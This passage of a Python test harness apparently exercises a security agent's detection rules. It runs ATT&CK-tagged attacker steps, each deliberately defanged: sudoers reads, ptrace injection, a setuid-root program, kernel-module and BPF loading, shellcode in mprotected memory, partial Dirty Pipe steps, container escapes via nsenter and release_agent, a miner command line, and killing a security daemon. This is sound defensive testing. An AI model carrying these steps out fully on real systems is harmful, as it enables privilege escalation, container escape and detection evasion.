    ctx.in_container(f"cp /bin/true {layers['merged']}/payload && {layers['merged']}/payload")


# --- discovery (TA0007) -----------------------------------------------------------------

@scenario("T1083", "TA0007", ["setuid_program_search"], quick=True)
def find_setuid(ctx: Context) -> None:
    """find / -perm -4000 (limited to /usr/bin)"""
    ctx.sh("find /usr/bin -perm -4000 -type f > /dev/null")


@scenario("T1083", "TA0007", ["file_capability_search"])
def getcap_recursive(ctx: Context) -> None:
    """getcap -r (limited to /usr)"""
    ctx.sh("getcap -r /usr/bin > /dev/null 2>&1", check=False)


@scenario("T1069.001", "TA0007", ["sudoers_read"], needs=("sudo",))
def sudoers_read(ctx: Context) -> None:
    """cat /etc/sudoers"""
    require("/etc/sudoers")
    ctx.sh("cat /etc/sudoers > /dev/null")


@scenario("T1069.001", "TA0007", ["sudo_privileges_listed"], needs=("sudo",))
def sudo_list(ctx: Context) -> None:
    """sudo -l"""
    require("/usr/bin/sudo")
    ctx.sh("sudo -n -l", check=False)


@scenario("T1018", "TA0007", ["ssh_known_hosts_read"])
def known_hosts_read(ctx: Context) -> None:
    """cat ~/.ssh/known_hosts"""
    ssh = _home(ctx) / ".ssh"
    ssh.mkdir()
    (ssh / "known_hosts").write_text("db.internal ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE\n")
    ctx.sh(f"cut -d' ' -f1 {ssh}/known_hosts > /dev/null")


@scenario("T1046", "TA0007", ["network_scanner_executed"], needs=("nmap",))
def nmap_scan(ctx: Context) -> None:
    """nmap -sT 127.0.0.1 (two ports)"""
    require("nmap")
    ctx.sh("nmap -sT -Pn -p 22,80 127.0.0.1 > /dev/null")


# --- lateral movement (TA0008) ------------------------------------------------------------

@scenario("T1021.004", "TA0008", ["ssh_client_below_network_service"], tolerated=["shell_from_network_service"],
          needs=("lighttpd", "ssh"))
def web_shell_pivots_with_ssh(ctx: Context) -> None:
    """a command injection runs ssh to another host (a closed port here)"""
    web = lighttpd(ctx)
    web.run("ssh -o BatchMode=yes -o ConnectTimeout=2 -o StrictHostKeyChecking=no "
            "-o UserKnownHostsFile=/dev/null -p 1 127.0.0.1 true")


# --- impact and integrity (TA0040) ------------------------------------------------------

@scenario("T1565.001", "TA0040", ["etc_file_written"], quick=True)
def etc_config_dropped(ctx: Context) -> None:
    """write a new configuration file below /etc"""
    conf = ctx.remove_after(f"/etc/rsagent-detection-{ctx.tag}.conf")
    ctx.sh(f"echo 'server 203.0.113.7' > {conf}")


@scenario("T1565.001", "TA0040", ["etc_file_renamed"], quick=True)
def etc_config_sed_i(ctx: Context) -> None:
    """sed -i a configuration file below /etc"""
    conf = ctx.remove_after(f"/etc/rsagent-detection-{ctx.tag}.conf")
    conf.write_text("PermitRootLogin no\n")
    ctx.sh(f"sed -i 's/no/yes/' {conf}")


@scenario("T1561.001", "TA0040", ["block_device_written"])
def disk_overwritten(ctx: Context) -> None:
    """dd onto a disk (a loop device over a file of the test)"""
    dev = ctx.loop_device()
    ctx.sh(f"dd if=/dev/zero of={dev} bs=4096 count=1 status=none")


@scenario("T1496", "TA0040", ["crypto_miner_executed"], quick=True)
def miner_command_line(ctx: Context) -> None:
    """a miner started with a stratum pool URL (the program is /bin/true)"""
    _copy_true(ctx, ctx.tmp / "kdevtmpfsi")
    ctx.sh(f"{ctx.tmp}/kdevtmpfsi -o stratum+tcp://pool.invalid:3333 -u 4A --donate-level 1")


@scenario("T1531", "TA0040", ["user_account_deleted"])
def account_removed(ctx: Context) -> None:
    """userdel a local account (one the scenario created)"""
    user = f"rsdet{ctx.tag[:8]}"
    ctx.user_after(user)
    subprocess.run(["useradd", "-M", "-N", "-s", "/usr/sbin/nologin", user], check=True)
    ctx.sh(f"userdel {user}")



# --- kernel and process activity (issue 9's event types) -------------------------------------
# The attacker's steps are made with the real syscalls, from small Python programs (ctypes):
# what an exploit or an injector does, without its payload.

LIBC = """import ctypes, os, struct
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def sc(nr, *args):  # every integer argument a full 64-bit register
    return libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
"""

PTRACE_INJECT = LIBC + """
import sys
pid = int(sys.argv[1])
PTRACE_PEEKTEXT, PTRACE_POKETEXT, PTRACE_ATTACH, PTRACE_DETACH = 1, 4, 16, 17
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
if libc.ptrace(PTRACE_ATTACH, pid, None, None) != 0:
    raise SystemExit(f"attach: errno {ctypes.get_errno()}")
os.waitpid(pid, 0)
with open(f"/proc/{pid}/maps") as maps:
    code = next(int(line.split("-")[0], 16) for line in maps if " r-xp " in line)
ctypes.set_errno(0)
word = libc.ptrace(PTRACE_PEEKTEXT, pid, code, None)
if ctypes.get_errno():
    raise SystemExit(f"peek: errno {ctypes.get_errno()}")
# the same word written back: the injection's call, not its change
if libc.ptrace(PTRACE_POKETEXT, pid, code, ctypes.c_void_p(word & (2**64 - 1))) != 0:
    raise SystemExit(f"poke: errno {ctypes.get_errno()}")
libc.ptrace(PTRACE_DETACH, pid, None, None)
"""


@scenario("T1055.008", "TA0005", ["ptrace_attach_to_other_process", "ptrace_code_injection"],
          tolerated=["process_memory_read"], quick=True)
def ptrace_injection(ctx: Context) -> None:
    """attach to a running process with ptrace and write into its code (PTRACE_ATTACH, PTRACE_POKETEXT)"""
    victim = ctx.spawn(["sleep", "60"])
    (ctx.tmp / "inject.py").write_text(PTRACE_INJECT)
    ctx.sh(f"/usr/bin/python3 {ctx.tmp}/inject.py {victim.pid}")


ROOTME_C = "#include <unistd.h>\nint main(void) { return setuid(0) == 0 ? 0 : 1; }\n"


@scenario("T1068", "TA0004", ["setuid_root_by_non_root_process", "nonstandard_setuid_program_executed"],
          quick=True)
def setuid_back_to_root(ctx: Context) -> None:
    """nobody runs a planted setuid-root program that makes itself root (setuid(0))"""
    src = ctx.tmp / "rootme.c"
    src.write_text(ROOTME_C)
    prog = ctx.tmp / "rootme"
    subprocess.run(["gcc", "-o", str(prog), str(src)], check=True, capture_output=True)
    os.chown(prog, 0, 0)
    prog.chmod(0o4755)
    # not bash's last command (bash would exec it in place of itself): its parent is nobody's shell
    ctx.sh(f"{prog} && echo root", user=NOBODY)


MODULE_LOAD = LIBC + """
import sys
image = b"\\x7fELF" + bytes(60)              # not a module: the kernel refuses it (ENOEXEC)
buf = ctypes.create_string_buffer(image)
ret = sc(175, buf, len(image), b"")  # init_module
print("init_module", ret, ctypes.get_errno())
fd = os.open(sys.argv[1], os.O_RDONLY)
ret = sc(313, fd, b"", 0)            # finit_module
print("finit_module", ret, ctypes.get_errno())
"""


@scenario("T1547.006", "TA0003", ["kernel_module_loaded"], quick=True, types=("load_module",))
def kernel_module_from_memory(ctx: Context) -> None:
    """load a kernel module from memory (init_module) and from /tmp (finit_module); both refused: not modules"""
    ko = ctx.tmp / "rootkit.ko"
    ko.write_bytes(b"\x7fELF" + bytes(60))
    (ctx.tmp / "load.py").write_text(MODULE_LOAD)
    ctx.sh(f"/usr/bin/python3 {ctx.tmp}/load.py {ko}")


BPF_LOAD = LIBC + """
insns = struct.pack("<BBhi", 0xb7, 0, 0, 0) + struct.pack("<BBhi", 0x95, 0, 0, 0)  # r0 = 0; exit
license = ctypes.create_string_buffer(b"GPL")
prog = ctypes.create_string_buffer(insns)
attr = bytearray(128)
struct.pack_into("<IIQQ", attr, 0, 1, 2, ctypes.addressof(prog), ctypes.addressof(license))  # SOCKET_FILTER
attr[48:48 + 7] = b"rsdet_x"                   # prog_name
buf = ctypes.create_string_buffer(bytes(attr), len(attr))
fd = sc(321, 5, buf, len(attr))     # bpf(BPF_PROG_LOAD)
if fd < 0:
    raise SystemExit(f"BPF_PROG_LOAD: errno {ctypes.get_errno()}")
os.close(fd)
"""


@scenario("T1014", "TA0005", ["bpf_program_loaded_by_unknown_process"], quick=True)
def bpf_program_loaded(ctx: Context) -> None:
    """an unknown program loads a BPF program (the first step of a BPF rootkit)"""
    (ctx.tmp / "bpfload.py").write_text(BPF_LOAD)
    ctx.sh(f"/usr/bin/python3 {ctx.tmp}/bpfload.py")


USERNS = LIBC + """
ret = sc(272, 0x10000000)  # unshare(CLONE_NEWUSER)
print(ret, ctypes.get_errno())
"""


@scenario("T1611", "TA0004", ["user_namespace_created_by_unexpected_process"], quick=True)
def user_namespace_for_exploit(ctx: Context) -> None:
    """nobody makes a user namespace (unshare(CLONE_NEWUSER)): root in it reaches kernel code exploits target"""
    (ctx.tmp / "userns.py").write_text(USERNS)
    ctx.sh(f"/usr/bin/python3 {ctx.tmp}/userns.py", user=NOBODY)


@scenario("T1611", "TA0004", ["host_namespace_joined_from_container", "namespace_tool_executed"], quick=True)
def nsenter_host_from_container(ctx: Context) -> None:
    """in a container: nsenter into the host's namespaces (those of a host process)"""
    victim = ctx.spawn(["sleep", "60"])
    ctx.in_container(f"nsenter --target {victim.pid} --mount --uts --ipc --net -- true")


SHELLCODE = LIBC + """
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
PROT_READ, PROT_WRITE, PROT_EXEC, MAP_PRIVATE, MAP_ANONYMOUS = 1, 2, 4, 2, 0x20
page = libc.mmap(None, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0)
ctypes.memmove(page, b"\\xc3", 1)             # ret
if libc.mprotect(ctypes.c_void_p(page), 4096, PROT_READ | PROT_EXEC) != 0:
    raise SystemExit(f"mprotect: errno {ctypes.get_errno()}")
ctypes.CFUNCTYPE(None)(page)()
"""


@scenario("T1620", "TA0005", ["writable_memory_made_executable"], quick=True)
def shellcode_in_anonymous_memory(ctx: Context) -> None:
    """write code into anonymous memory, make it executable (mprotect RW to RX) and run it"""
    (ctx.tmp / "shellcode.py").write_text(SHELLCODE)
    ctx.sh(f"/usr/bin/python3 {ctx.tmp}/shellcode.py")


DIRTY_PIPE = LIBC + """
r, w = os.pipe()
size = 16 * 4096                               # the default pipe: 16 buffers
os.write(w, b"x" * size)                       # every buffer gets PIPE_BUF_FLAG_CAN_MERGE
while size:
    size -= len(os.read(r, size))
fd = os.open("/etc/passwd", os.O_RDONLY)
off = ctypes.c_longlong(0)
ret = sc(275, fd, ctypes.byref(off), w, None, 1, 0)  # splice 1 byte of the file into the pipe
if ret != 1:
    raise SystemExit(f"splice: {ret} errno {ctypes.get_errno()}")
# the exploit would now write into the pipe (into the file's page on a vulnerable kernel): not done
"""


@scenario("T1068", "TA0004", ["dirty_pipe_exploit"], quick=True)
def dirty_pipe(ctx: Context) -> None:
    """the Dirty Pipe steps (CVE-2022-0847) up to the splice: prime a pipe, drain it, splice /etc/passwd in"""
    (ctx.tmp / "dirtypipe.py").write_text(DIRTY_PIPE)
    ctx.sh(f"/usr/bin/python3 {ctx.tmp}/dirtypipe.py", user=NOBODY)


RENAME = LIBC + """
libc.prctl(15, b"kworker/0:2", 0, 0, 0)       # PR_SET_NAME
os.system("true")
"""


@scenario("T1036.004", "TA0005", ["process_renamed_like_kernel_thread"], quick=True)
def renamed_like_kernel_worker(ctx: Context) -> None:
    """a payload renames itself kworker/0:2 (prctl PR_SET_NAME), as miners and backdoors do"""
    (ctx.tmp / "rename.py").write_text(RENAME)
    ctx.sh(f"/usr/bin/python3 {ctx.tmp}/rename.py")



@scenario("T1562.001", "TA0005", ["security_agent_killed"], quick=True)
def security_agent_killed(ctx: Context) -> None:
    """kill -9 a security agent's daemon (sleep installed as /opt/osquery/bin/osqueryd, osquery's path)"""
    daemon = ctx.mkdir_after("/opt/osquery/bin") / "osqueryd"
    shutil.copy2("/bin/sleep", daemon)
    victim = ctx.spawn([str(daemon), "60"])
    ctx.sh(f"kill -KILL {victim.pid}")


MODULE_UNLOAD = LIBC + """
ret = sc(176, b"rsdet_none", os.O_NONBLOCK)  # delete_module: no such module (ENOENT)
print("delete_module", ret, ctypes.get_errno())
"""


@scenario("T1562.001", "TA0005", ["kernel_module_unloaded"], quick=True, types=("unload_module",))
def kernel_module_unloaded(ctx: Context) -> None:
    """unload a kernel module with a program's own delete_module, as a rootkit does (refused: no such module)"""
    (ctx.tmp / "unload.py").write_text(MODULE_UNLOAD)
    ctx.sh(f"/usr/bin/python3 {ctx.tmp}/unload.py")


IO_URING = LIBC + """
params = ctypes.create_string_buffer(120)    # struct io_uring_params
fd = sc(425, 8, params)                       # io_uring_setup(8 entries)
if fd < 0:
    raise SystemExit(f"io_uring_setup: errno {ctypes.get_errno()}")
os.close(fd)
"""


@scenario("T1014", "TA0005", ["io_uring_by_unexpected_process"], quick=True)
def io_uring_from_interpreter(ctx: Context) -> None:
    """a Python program sets up an io_uring (the first step of an io_uring rootkit, whose requests no syscall hook sees)"""
    (ctx.tmp / "uring.py").write_text(IO_URING)
    ctx.sh(f"/usr/bin/python3 {ctx.tmp}/uring.py")


# the new mount API (fsopen, fsconfig, fsmount): a mount that is never attached to the tree and
# is used through its descriptor
FSMOUNT = LIBC + """
import sys
FSCONFIG_SET_FLAG, FSCONFIG_SET_STRING, FSCONFIG_CMD_CREATE = 0, 1, 6
def ok(what, ret):
    if ret < 0:
        raise SystemExit(f"{what}: errno {ctypes.get_errno()}")
    return ret
def fsmount(fs_type, flags=(), **strings):
    fs = ok("fsopen", sc(430, fs_type.encode(), 1))                   # FSOPEN_CLOEXEC
    for key, value in strings.items():
        ok(f"fsconfig {key}", sc(431, fs, FSCONFIG_SET_STRING, key.encode(), value.encode(), 0))
    for flag in flags:
        ok(f"fsconfig {flag}", sc(431, fs, FSCONFIG_SET_FLAG, flag.encode(), None, 0))
    ok("fsconfig create", sc(431, fs, FSCONFIG_CMD_CREATE, None, None, 0))
    return ok("fsmount", sc(432, fs, 1, 0))                            # FSMOUNT_CLOEXEC: detached
"""

FSMOUNT_RELEASE_AGENT = FSMOUNT + """
mnt = fsmount("cgroup", ["none"], name=sys.argv[1])
os.close(os.open("release_agent", os.O_WRONLY, dir_fd=mnt))        # opened for writing, nothing written
"""


@scenario("T1611", "TA0004", ["cgroup_mounted_in_container", "cgroup_release_agent_written"], quick=True)
def release_agent_escape_new_mount_api(ctx: Context) -> None:
    """in a container: fsmount a cgroup v1 hierarchy (detached, never attached) and open its release_agent through it"""
    (ctx.tmp / "fsmount.py").write_text(FSMOUNT_RELEASE_AGENT)
    ctx.in_container(f"/usr/bin/python3 {ctx.tmp}/fsmount.py rsdet{ctx.tag}")


FSMOUNT_DISK = FSMOUNT + """
mnt = fsmount("ext2", ["ro"], source=sys.argv[1])
root = os.open(".", os.O_RDONLY | os.O_DIRECTORY, dir_fd=mnt)      # the disk read through the descriptor
print(os.listdir(root))
"""


@scenario("T1611", "TA0004", ["host_device_mounted_in_container"], tolerated=["block_device_written"])
def disk_mounted_in_container_new_mount_api(ctx: Context) -> None:
    """in a container: fsmount a disk (a loop device holding an ext2 filesystem) and read it through the descriptor"""
    dev = ctx.loop_device(fs="ext2")
    (ctx.tmp / "fsmount.py").write_text(FSMOUNT_DISK)
    ctx.in_container(f"/usr/bin/python3 {ctx.tmp}/fsmount.py {dev}")



CAPSET = """import ctypes
libc = ctypes.CDLL(None, use_errno=True)
CAP_SYS_PTRACE = 19
hdr = (ctypes.c_uint32 * 2)(0x20080522, 0)        # _LINUX_CAPABILITY_VERSION_3, this process
data = (ctypes.c_uint32 * 6)()                     # effective, permitted, inheritable (two words each)
if libc.capget(hdr, data) != 0:
    raise SystemExit(f"capget: errno {ctypes.get_errno()}")
data[0] |= 1 << CAP_SYS_PTRACE                     # into the effective set (the file made it permitted)
if libc.capset(hdr, data) != 0:
    raise SystemExit(f"capset: errno {ctypes.get_errno()}")
"""


@scenario("T1548", "TA0004", ["capability_raised_by_interpreter"], tolerated=["file_capability_set"], quick=True)
def capability_backdoor_on_interpreter(ctx: Context) -> None:
    """nobody runs a copy of python given cap_sys_ptrace+p (a capability backdoor) and raises it with capset"""
    real = Path(os.path.realpath("/usr/bin/python3"))     # python3.11: an interpreter's name
    python = ctx.tmp / real.name
    shutil.copy2(real, python)
    (ctx.tmp / "cap.py").write_text(CAPSET)
    ctx.sh(f"setcap cap_sys_ptrace+p {python}")
    ctx.sh(f"{python} {ctx.tmp}/cap.py", user=NOBODY)


BY_NAME = {s.name: s for s in SCENARIOS}
assert len(BY_NAME) == len(SCENARIOS), "scenario names must be unique"
